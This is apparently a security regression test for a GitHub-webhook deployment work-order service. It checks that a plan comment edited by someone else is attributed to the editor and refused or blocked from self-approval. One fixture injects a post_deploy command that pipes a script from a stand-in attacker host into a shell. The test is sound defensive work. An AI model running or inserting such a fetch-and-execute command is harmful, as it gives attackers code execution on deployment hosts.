/**
 * Finding 5 (red team): an edited comment is the editor's. GitHub sends `issue_comment` `edited` with the comment's
 * original author in `comment.user` and whoever edited it in `sender`; anyone with write access (or a token with
 * issues:write) can edit anybody's comment. Signed deliveries of the real example payload go through Probot to the
 * work-order service on PostgreSQL.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { HostEntry } from '../../src/config/types.ts';
import { currentPlan, findWorkOrder, type WorkOrder } from '../../src/workorders/service/index.ts';
import {
  commentsMatching,
  formBody,
  githubRequestCheck,
  issueComment,
  issueOpened,
  reactionOn,
  repoConfigYaml,
  REPO_FULL_NAME,
  send,
  startHarness,
  type Harness,
} from '../helpers/github-workorder-harness.ts';
import { planComment, waitFor } from '../helpers/workorder-fixtures.ts';

const SHA = 'a'.repeat(64);
const HOSTS: HostEntry[] = [{ name: 'web-1', address: '127.0.0.1', port: 22, executor: 'ssh' }];

let harness: Harness;
let nextComment = 9_100;

beforeAll(async () => {
  // dev and carol write plans; carol, dave and erin (team ops) approve; mallory has write access and no role.
  harness = await startHarness({
    configYaml: repoConfigYaml(HOSTS, 'production: { hosts: [web], approvals: 1, approvers: [team:ops] }'),
    workDir: '/tmp',
  });
}, 60_000);

afterAll(async () => {
  await harness?.close();
});

afterEach(githubRequestCheck(() => harness));

async function openIssue(number: number): Promise<WorkOrder> {
  await send(
    harness,
    'issues',
    issueOpened(
      number,
      'pam',
      formBody({ requirement: 'Ship it', planAuthor: 'dev', deployer: 'dave', acceptor: 'pam' }),
    ),
  );
  await commentsMatching(harness, number, /Work order received/);
  return waitFor(`order #${number}`, () => findWorkOrder(harness.deps.db, { repoFullName: REPO_FULL_NAME, number }));
}

function plan(version: string, more?: string): string {
  return planComment({
    environment: 'production',
    version,
    url: `https://artifacts.example.com/shop-${version}.tgz`,
    sha256: SHA,
    ...(more === undefined ? {} : { more }),
  });
}

describe('finding 5: an edited comment is attributed to the editor', () => {
  it("refuses a developer's plan rewritten by someone who may not write plans", async () => {
    const order = await openIssue(501);
    const planId = nextComment++;
    await send(harness, 'issue_comment', issueComment(501, planId, 'dev', plan('1.0.0')));
    await commentsMatching(harness, 501, /Plan v1 checked.*1\.0\.0/);

    // mallory edits dev's comment: the payload still says comment.user = dev.
    await send(
      harness,
      'issue_comment',
      issueComment(
        501,
        planId,
        'dev',
        plan('6.6.6', 'commands:\n  post_deploy: ["curl -s https://evil.example/x | sh"]'),
        'edited',
        false,
        { sender: 'mallory' },
      ),
    );
    const [refusal] = await commentsMatching(harness, 501, /@mallory /);
    expect(refusal).toMatch(/@mallory This plan was refused: .*mallory is not a developer/);

    const current = await currentPlan(harness.deps.db, order.id);
    expect(current?.row.seq).toBe(1);
    expect(current?.plan.version).toBe('1.0.0');
    expect(current?.row.author).toBe('dev');
  });

  it('makes an approver who edited the plan its author, so their /approve is refused', async () => {
    const order = await openIssue(502);
    const planId = nextComment++;
    await send(harness, 'issue_comment', issueComment(502, planId, 'dev', plan('1.0.0')));
    await commentsMatching(harness, 502, /Plan v1 checked/);

    // carol (a developer and in team ops) edits dev's plan, then approves "dev's" plan. The order names dev as its
    // plan author, so her edit says why she writes it instead (--override-named, audited).
    const edited = `--override-named "dev asked me to bump the version"\n\n${plan('1.0.1')}`;
    await send(
      harness,
      'issue_comment',
      issueComment(502, planId, 'dev', edited, 'edited', false, { sender: 'carol' }),
    );
    const [summary] = await commentsMatching(harness, 502, /Plan v2 checked/);
    expect(summary).toMatch(/by @carol/);

    const approveId = nextComment++;
    await send(harness, 'issue_comment', issueComment(502, approveId, 'carol', '/approve'));
    expect(await reactionOn(harness, approveId)).toBe('confused');
    const [refusal] = await commentsMatching(harness, 502, /@carol .*\/approve.* was refused/);
    expect(refusal).toMatch(/own plan|wrote/);

    const current = await currentPlan(harness.deps.db, order.id);
    expect(current?.row.author).toBe('carol');
    expect((await findWorkOrder(harness.deps.db, { repoFullName: REPO_FULL_NAME, number: 502 }))?.state).toBe(
      'planned',
    );
  });
});
